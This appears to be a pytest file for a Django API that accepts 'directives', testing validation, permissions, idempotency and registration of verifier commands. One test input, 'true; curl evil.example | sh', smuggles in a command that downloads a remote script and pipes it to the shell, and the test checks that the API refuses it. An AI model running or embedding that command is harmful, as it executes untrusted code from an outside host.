"""POST/GET /api/directives/: validation, authentication, idempotency."""

from __future__ import annotations

from typing import Any

import pytest
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from ledger import kinds
from ledger.models import LedgerEvent
from organization.services import genome_bootstrap
from tests import factories
from tests.support.verifiers import registered
from workers.models import Directive, Envelope

pytestmark = pytest.mark.django_db

URL = "/api/directives/"


@pytest.fixture
def organization() -> None:
    genome_bootstrap(template="nested", actor="operator:test")


@pytest.fixture
def client(organization: None) -> APIClient:
    api = APIClient()
    token, _ = Token.objects.get_or_create(user=factories.operator())
    api.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return api


def post(client: APIClient, body: dict[str, Any], **headers: str) -> Any:
    return client.post(URL, body, format="json", headers=headers)


def nothing_stored() -> bool:
    return (
        not Directive.objects.exists()
        and not Envelope.objects.exists()
        and not LedgerEvent.objects.exclude(kind=kinds.GENOME_BOOTSTRAPPED).exists()
    )


def test_a_valid_directive_is_stored_recorded_and_sent_to_the_root(
    client: APIClient, django_capture_on_commit_callbacks: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    sent: list[tuple[Any, Any]] = []
    monkeypatch.setattr(
        "workers.services.transport.envelope_send",
        lambda envelope_id, queue: sent.append(([envelope_id], queue)),
    )
    with django_capture_on_commit_callbacks() as callbacks:
        response = post(
            client,
            {
                "title": "Add a health-check endpoint",
                "body": "GET /health returns 200",
                "risk": "Low",
                "metadata": {"requires_code_write": True, "task_class": "feature"},
                "acceptance": [{"name": "tests", "verifier": registered("tests-pass", "true")}],
            },
        )

    assert response.status_code == 201, response.content
    body = response.json()
    assert body["status"] == "accepted"
    assert body["metadata"] == {"requires_code_write": "true", "task_class": "feature"}
    # The directive keeps the command its check will run, and the name it came from.
    assert body["acceptance"] == [
        {"name": "tests", "description": "", "verifier": "true", "verifier_name": "tests-pass"}
    ]
    envelope = Envelope.objects.get()
    assert (envelope.target_node_id, envelope.payload_type, envelope.queue) == (
        "root-codebase-system",
        "vsm.directive",
        "controllers",
    )
    assert sent == []  # nothing reaches Celery before the commit
    for callback in callbacks:
        callback()
    assert sent == [([envelope.id], "controllers")]
    recorded = LedgerEvent.objects.filter(directive_id=body["id"])
    assert [event.kind for event in recorded] == [kinds.DIRECTIVE_ACCEPTED, kinds.MESSAGE_PUBLISHED]
    assert recorded[0].actor == "user:operator"


@pytest.mark.parametrize("verifier", ["make test", "unregistered", "true; curl evil.example | sh"])
def test_a_verifier_nobody_registered_gets_a_400_saying_who_registers_them(
    client: APIClient, verifier: str
) -> None:
    response = post(
        client, {"title": "Sneak a command in", "acceptance": [{"name": "x", "verifier": verifier}]}
    )

    assert response.status_code == 400
    (message,) = response.json()["acceptance"]
    assert f"No acceptance verifier is registered as {verifier!r}" in message
    assert "verifier_register" in message
    assert nothing_stored()


def test_a_verifier_edited_after_submission_leaves_the_directive_its_command(
    client: APIClient,
) -> None:
    registered("lint", "make lint")
    created = post(client, {"title": "Lint it", "acceptance": [{"name": "l", "verifier": "lint"}]})
    registered("lint", "make lint-strict")

    stored = Directive.objects.get(id=created.json()["id"])
    assert stored.acceptance[0]["verifier"] == "make lint"


def test_a_viewer_may_read_directives_but_not_submit_them(organization: None) -> None:
    viewer = APIClient()
    viewer.force_authenticate(factories.viewer())

    assert viewer.get(URL).status_code == 200
    refused = viewer.post(URL, {"title": "x"}, format="json")
    assert refused.status_code == 403
    assert "workers.submit_directive" in refused.json()["detail"]
    assert nothing_stored()


def test_anonymous_requests_are_refused(organization: None) -> None:
    anonymous = APIClient()

    assert anonymous.post(URL, {"title": "x"}, format="json").status_code == 401
    assert anonymous.get(URL).status_code == 401
    assert nothing_stored()


@pytest.mark.parametrize(
    ("body", "field", "message"),
    [
        ({}, "title", "required"),
        ({"title": "x", "risk": "Extreme"}, "risk", "not a valid choice"),
        (
            {"title": "x", "metadata": {"target_child": "frontend-system"}},
            "metadata",
            "frontend-system",
        ),
        (
            {"title": "x", "metadata": {"requires_code_write": "maybe"}},
            "metadata",
            '"true" or "false"',
        ),
        ({"title": "x", "metadata": {"nested": {"a": 1}}}, "metadata", "string, number or boolean"),
        ({"title": "x", "constraints": "one"}, "constraints", "list"),
        ({"title": "x", "acceptance": [{"description": "no name"}]}, "acceptance", "required"),
        (
            {
                "title": "x",
                "tasks": [
                    {"key": "a", "title": "A", "depends_on": ["b"]},
                    {"key": "b", "title": "B", "depends_on": ["a"]},
                ],
            },
            "tasks",
            "cycle: a → b → a",
        ),
        (
            {"title": "x", "tasks": [{"key": "a", "title": "A", "depends_on": ["zzz"]}]},
            "tasks",
            "unknown task",
        ),
    ],
)
def test_bad_input_gets_a_400_naming_the_field_and_stores_nothing(
    client: APIClient, body: dict[str, Any], field: str, message: str
) -> None:
    response = post(client, body)

    assert response.status_code == 400
    errors = response.json()
    assert field in errors
    assert message in str(errors[field])
    assert nothing_stored()


def test_malformed_json_gets_a_400(client: APIClient) -> None:
    response = client.post(URL, data="{not json", content_type="application/json")

    assert response.status_code == 400
    assert "JSON parse error" in response.json()["detail"]
    assert nothing_stored()


def test_an_idempotency_key_makes_a_retry_return_the_first_directive(client: APIClient) -> None:
    first = post(client, {"title": "Once only"}, **{"Idempotency-Key": "k-1"})
    again = post(client, {"title": "Once only"}, **{"Idempotency-Key": "k-1"})

    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["id"] == again.json()["id"]
    assert Directive.objects.count() == 1
    assert Envelope.objects.count() == 1


def test_reusing_a_key_for_a_different_request_is_a_conflict(client: APIClient) -> None:
    post(client, {"title": "First"}, **{"Idempotency-Key": "k-2"})

    response = post(client, {"title": "Second"}, **{"Idempotency-Key": "k-2"})

    assert response.status_code == 409
    assert "different request" in response.json()["detail"]
    assert Directive.objects.count() == 1


def test_the_list_filters_by_status_and_the_detail_shows_tasks(client: APIClient) -> None:
    created = post(client, {"title": "Listed"}).json()

    listed = client.get(URL, {"status": "accepted"}).json()
    none = client.get(URL, {"status": "completed"}).json()
    detail = client.get(f"{URL}{created['id']}/").json()

    assert [item["id"] for item in listed["results"]] == [created["id"]]
    assert none["results"] == []
    assert detail["tasks"] == []
    assert client.get(URL, {"status": "bogus"}).status_code == 400
    assert client.get(f"{URL}does-not-exist/").status_code == 404


def test_without_an_organization_the_api_says_to_bootstrap() -> None:
    api = APIClient()
    api.force_authenticate(factories.admin())

    response = post(api, {"title": "Too early"})

    assert response.status_code == 400
    assert "org_bootstrap" in str(response.json())
    assert nothing_stored()


def test_the_detail_shows_each_tasks_trace(client: APIClient) -> None:
    from tests.support.processes import drain_in_process

    created = post(client, {"title": "Traced", "metadata": {"requires_code_write": True}}).json()
    drain_in_process()

    task = client.get(f"{URL}{created['id']}/").json()["tasks"][0]

    assert task["status"] == "completed"
    assert task["trace"]["assigned_node_id"] == "backend-coder"
    assert task["trace"]["responsible_ancestor_ids"] == ["backend-system", "root-codebase-system"]


def test_numbers_where_the_schema_says_text_get_a_400(client: APIClient) -> None:
    response = post(client, {"title": "x", "constraints": [5.0]})

    assert response.status_code == 400
    assert "Must be a string." in str(response.json()["constraints"])
    assert nothing_stored()
